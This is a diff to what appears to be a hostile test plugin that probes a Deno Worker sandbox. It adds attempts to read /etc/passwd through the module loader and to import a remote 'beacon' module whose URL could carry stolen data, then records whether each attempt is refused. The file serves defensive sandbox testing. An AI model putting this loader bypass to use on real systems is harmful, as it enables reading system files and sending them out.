@@ -40,6 +40,20 @@ const outcome = (f: () => unknown) => {
   }
 };
 
+// Reading through the module loader rather than the file API: Deno checks a Worker's module loads against its
+// parent's permissions, not its own, so a text import of a file the VMM may read, or a module from a host it may
+// import from (a URL that could carry what was read), would succeed where Deno.readTextFileSync is NotCapable.
+// Dynamic, so that a refusal does not stop this module from loading.
+const viaLoader = (p: Promise<{ default?: unknown }>) =>
+  p.then(
+    (m) => `loaded ${String(m.default ?? "").length}`,
+    (e) => /Requires (read|import) access/.test((e as Error).message) ? "refused" : `failed ${(e as Error).name}`,
+  );
+const importPasswd = await viaLoader(import("/etc/passwd", { with: { type: "text" } }));
+// A beacon on a host Deno lets import by default: a variable, as the URL would carry what was read.
+const beacon = "https://deno.land/x/iommu_relay_hostile_beacon/mod.ts";
+const importRemote = await viaLoader(import(beacon));
+
 // Tampered intrinsics: in the host's realm these would see (and could change) the relay's own maps and arrays.
 let intercepted = 0;
 const realGet = Map.prototype.get, realPush = Array.prototype.push;
@@ -119,6 +133,8 @@ export default definePlugin({
         seen.openIommu = outcome(() => Deno.openSync("/dev/iommu", { read: true, write: true }));
         seen.readPasswd = outcome(() => Deno.readTextFileSync("/etc/passwd").length);
         seen.spawn = outcome(() => new Deno.Command("true").outputSync().code);
+        seen.importPasswd = importPasswd;
+        seen.importRemote = importRemote;
         return { ioctls: 0, entries: 0, invalidations: 0, unrouted: 0, failures: [], waits: [], seen } as never;
       },
       [Symbol.dispose]() {},
